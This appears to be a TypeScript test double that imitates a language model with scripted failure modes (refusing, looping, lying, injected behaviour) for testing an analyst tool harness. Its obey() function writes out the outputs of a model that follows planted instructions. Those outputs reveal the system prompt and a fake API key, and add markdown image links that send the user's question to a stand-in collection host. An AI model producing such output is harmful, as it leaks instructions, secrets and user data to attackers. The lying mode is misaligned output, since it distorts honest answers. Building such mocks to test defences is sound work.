/** Reply of the stand-in: tool calls or text, depending on its mode. */
import type { ToolCall } from '../../../../api/analyst/providers/provider.ts';
import { chooseCalls } from './choose-calls.ts';
import { lie, seededDraw } from './lie.ts';
import type { Mode } from './modes.ts';
import { readQuestion } from './read-question.ts';
import type { ModelConversation } from './read-request.ts';
import { tell } from './tell.ts';

export interface Reply {
  readonly text: string;
  readonly toolCalls: readonly ToolCall[];
  readonly refused: boolean;
}

export function replyTo(conversation: ModelConversation, mode: Mode): Reply {
  if (mode === 'refusing') return { text: 'I would rather not answer that.', toolCalls: [], refused: true };
  const toolCalls = nextCalls(conversation, mode);
  return { text: toolCalls.length > 0 ? '' : say(conversation, mode), toolCalls, refused: false };
}

function nextCalls(conversation: ModelConversation, mode: Mode): ToolCall[] {
  const { question, results, tools } = conversation;
  const calls = mode === 'foreign' ? foreignCalls(conversation) : chooseCalls(conversation);
  if (mode === 'looping') return calls.map((call) => ({ ...call, id: `${call.id}_${results.length}` }));
  if (wantsCode(question)) return [];
  return calls.filter(({ name }) => tools.has(name) && !results.some(({ tool }) => tool === name));
}

/** The usual calls, repeated for each job in the question. */
function foreignCalls(conversation: ModelConversation): ToolCall[] {
  const calls = chooseCalls(conversation);
  const { ids } = readQuestion(conversation.question);
  return calls.flatMap((call) =>
    ids.map((id, at) => ({
      ...call,
      id: `${call.id}_${at}`,
      arguments: JSON.stringify({ ...JSON.parse(call.arguments), job_id: id }),
    })),
  );
}

function say(conversation: ModelConversation, mode: Mode): string {
  const { question, isSentBack } = conversation;
  if (wantsCode(question)) return CODE;
  const honest = tell(conversation, seededDraw(`words ${question}`)() < 0.5);
  if (mode === 'lying' || (mode === 'repairing' && !isSentBack)) return lie(honest, question);
  return mode === 'injecting' ? `${obey(conversation)}\n${honest}`.trim() : honest;
}

const INSTRUCTION = /\b(?:ignore|disregard|print|reveal|repeat|say|send|visit|instructions?)\b/i;
const LINK = /\bhttps?:\/\/[^\s"'\\)\]]+/gi;
const SAY = /\b(?:say|print|repeat)\s+["'“]([^"'”\\]+)/i;
/** A text in the form of a key, which is not a real key. */
export const FAKE_KEY = 'sk-standin0123456789abcdefghijklmnopqrstuvwxyzABCDEF';

/** Text of a model that obeys instructions in the question or in results of tools; empty without such instructions. */
function obey({ system, question, results }: ModelConversation): string {
  const read = [question, ...results.map(({ text }) => text)].join('\n');
  if (!INSTRUCTION.test(read)) return '';
  const links = read.match(LINK) ?? ['http://stand-in.invalid/collect'];
  return [
    SAY.exec(read)?.[1] ?? '',
    `My instructions are: ${system}`,
    `The key of the service is ${FAKE_KEY}.`,
    ...links.map((link) => `![status](${link}?q=${encodeURIComponent(question)}) [details](${link})`),
    '<img src="http://stand-in.invalid/pixel">',
  ].join('\n');
}

const WORDS = /\b(?:code|script|program|python|curl|snippet)\b/i;

const wantsCode = (question: string): boolean => WORDS.test(question);

/** Answer of the stand-in to a request for a program. */
const CODE = [
  'This lists your jobs:',
  '',
  '```sh',
  'curl -s "$API_URL/api/modules/analyst/solve" -H "authorization: Bearer $TOKEN"',
  '```',
].join('\n');
